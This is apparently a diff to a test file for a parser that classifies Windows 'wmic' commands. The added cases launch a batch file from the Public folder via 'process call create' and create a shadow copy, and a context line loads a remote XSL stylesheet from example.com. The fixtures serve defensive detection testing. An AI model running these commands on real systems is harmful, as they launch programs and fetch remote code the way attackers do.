@@ -25,6 +25,20 @@ describe('wmic', () => {
       null,
     ],
     [
+      'wmic process call create "C:\\Windows\\System32\\cmd.exe /c C:\\Users\\Public\\a.bat"',
+      'wmic process call create <system>\\cmd.exe /c <public>\\a.bat',
+      'wmic|process-create|system|exe',
+      ['launches-program', 'public-folder'],
+      null,
+    ],
+    [
+      'wmic shadowcopy call create Volume=C:\\',
+      'wmic shadowcopy call create volume=<drive-root>',
+      'wmic|call|-|-',
+      [],
+      null,
+    ],
+    [
       'wmic os get /format:"https://example.com/a.xsl"',
       'wmic os get /format:https://example.com/*.xsl',
       'wmic|stylesheet|url|xsl',
